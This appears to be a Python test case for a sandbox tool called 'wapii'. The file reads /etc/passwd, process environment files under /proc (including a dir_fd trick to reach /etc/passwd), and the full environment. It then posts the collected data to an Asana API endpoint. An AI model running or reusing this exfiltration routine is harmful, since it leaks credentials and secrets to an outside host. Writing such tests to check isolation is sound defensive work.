# expect: any -- reads host files and the wapii process's environment and sends them in its request
import requests
requests.Session  # extraction keeps the program from its first use of the library on
import os
stolen = []
for path in ("/etc/passwd", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        stolen.append(open(path, "rb").read().decode("latin-1"))
    except OSError:
        pass
try:
    proc = os.open("/proc/self", os.O_RDONLY)
    stolen.append(os.read(os.open("root/etc/passwd", os.O_RDONLY, dir_fd=proc), 1 << 16).decode("latin-1"))
except OSError:
    pass
stolen.append(repr(dict(os.environ)))
import requests
requests.post("https://app.asana.com/api/1.0/WRONG", data={"stolen": "\n".join(stolen)})
